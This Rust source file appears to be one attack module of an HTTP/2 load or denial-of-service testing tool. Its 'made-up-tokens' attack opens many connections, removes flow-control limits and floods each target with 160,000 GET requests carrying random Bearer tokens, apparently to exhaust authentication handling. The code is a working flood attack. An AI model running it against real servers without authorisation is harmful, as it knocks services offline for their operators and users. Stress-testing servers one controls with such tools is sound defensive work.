//! Sends requests without a pause, each with another token that is made up.

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "made-up-tokens",
    about: "Sends requests without a pause, each with another token that is made up",
    targets: WITH_HTTP2,
    attackers: 32,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

/// Requests that are written at once.
const BATCH: u32 = 16;
/// Batches on one connection.
const BATCHES: u32 = 10_000;

async fn once(aim: Aim) -> Result<()> {
    let (answers, mut requests) = tokio::io::split(aim.connect_http2(&[]).await?);
    let asking = async {
        // With the default window, the answers would soon wait for the client, and so would its next requests.
        requests.write_all(&frames::window(0, 1 << 30)).await?;
        for batch in 0..BATCHES {
            let first = batch * BATCH;
            let heads: Vec<u8> = (first..first + BATCH).flat_map(with_a_token).collect();
            requests.write_all(&heads).await?;
        }
        anyhow::Ok(())
    };
    tokio::select! {
        asked = asking => asked,
        () = aim.hold(answers) => Ok(()),
    }
}

/// The request of this number on its connection.
fn with_a_token(number: u32) -> Vec<u8> {
    let token = format!("Bearer {}", fastrand::u64(..));
    frames::get_with(2 * number + 1, "authorization", &token)
}
